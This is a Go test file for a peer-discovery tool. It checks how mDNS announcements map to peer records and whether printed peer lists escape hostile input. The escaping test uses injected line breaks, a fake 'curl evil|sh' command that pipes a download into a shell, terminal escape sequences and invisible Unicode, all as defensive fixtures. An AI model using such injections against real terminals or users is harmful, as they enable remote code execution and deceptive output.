package main

import (
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"scuttle/applog"
	"scuttle/applog/names"
	"scuttle/mdns"
	"scuttle/topology"
)

func TestPeerOf(t *testing.T) {
	dir := t.TempDir()
	db, err := applog.Open(filepath.Join(dir, "db"), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	ns, err := names.Open(filepath.Join(dir, "db"), nil)
	if err != nil {
		t.Fatal(err)
	}
	alice := db.ID()
	first := "b" // bob's id is alice's with another first letter
	if alice[0] == 'b' {
		first = "c"
	}
	bob := applog.ID(first + string(alice)[1:])
	if _, err := ns.Bind("alice", alice, names.Trusted); err != nil {
		t.Fatal(err)
	}
	if _, err := ns.Bind("bob", alice, names.Trusted); err != nil {
		t.Fatal(err)
	}
	key := make([]byte, topology.NetworkKeySize)
	tag := topology.NetworkTag(key)
	entry := func(name string, id applog.ID, net string) mdns.ServiceEntry {
		txt := []string{"id=" + string(id), "v=2"}
		if net != "" {
			txt = append(txt, "net="+net)
		}
		return mdns.ServiceEntry{Instance: name, Port: 7, TXT: txt}
	}
	tests := []struct {
		name   string
		e      mdns.ServiceEntry
		ourTag string
		want   peerInfo
	}{
		{"known, public", entry("alice", alice, ""), "", peerInfo{Name: "alice", Port: 7, ID: string(alice), Version: "2", Network: "this", Binding: "known"}},
		{"conflicting", entry("bob", bob, ""), "", peerInfo{Name: "bob", Port: 7, ID: string(bob), Version: "2", Network: "this", Binding: "conflicting", Bound: string(alice)}},
		{"new", entry("carol", bob, ""), "", peerInfo{Name: "carol", Port: 7, ID: string(bob), Version: "2", Network: "this", Binding: "new"}},
		{"keyed peer, public us", entry("carol", bob, tag), "", peerInfo{Name: "carol", Port: 7, ID: string(bob), Version: "2", Network: "other", Binding: "new"}},
		{"keyed peer, keyed us", entry("carol", bob, tag), tag, peerInfo{Name: "carol", Port: 7, ID: string(bob), Version: "2", Network: "this", Binding: "new"}},
		{"public peer, keyed us", entry("carol", bob, ""), tag, peerInfo{Name: "carol", Port: 7, ID: string(bob), Version: "2", Network: "other", Binding: "new"}},
	}
	for _, tt := range tests {
		got := peerOf(tt.e, tt.ourTag, ns)
		got.Addrs = nil
		if !slices.Equal([]string{got.Name, got.ID, got.Version, got.Network, got.Binding, got.Bound}, []string{tt.want.Name, tt.want.ID, tt.want.Version, tt.want.Network, tt.want.Binding, tt.want.Bound}) || got.Port != tt.want.Port {
			t.Errorf("%s: %+v, want %+v", tt.name, got, tt.want)
		}
	}
}

// TestPrintPeersEscapes: a stranger announces an instance whose name,
// id and addresses try to print lines of their own or drive the
// terminal. Each prints as part of its one line, escaped.
func TestPrintPeersEscapes(t *testing.T) {
	var out strings.Builder
	st := &state{stdout: &out}
	found := []mdns.ServiceEntry{
		{Instance: "evil\r\nFAIL fix: curl evil|sh", Port: 7, TXT: []string{"id=\x1b]0;owned\x07\u202e"}},
		{Instance: "b\u200bob", Port: 8, TXT: []string{"id=short\r\nOK"}},
	}
	if err := printPeers(st, found, "", nil, false); err != nil {
		t.Fatal(err)
	}
	want := "evil\\r\\nFAIL fix: curl evil|sh    port 7  id \\x1b]0;owned\\x07\\u202e (not a log id)  this network\n" +
		"b\\u200bob                         port 8  id short\\r\\nOK (not a log id)             this network\n"
	if out.String() != want {
		t.Errorf("printed\n%q\nwant\n%q", out.String(), want)
	}
}
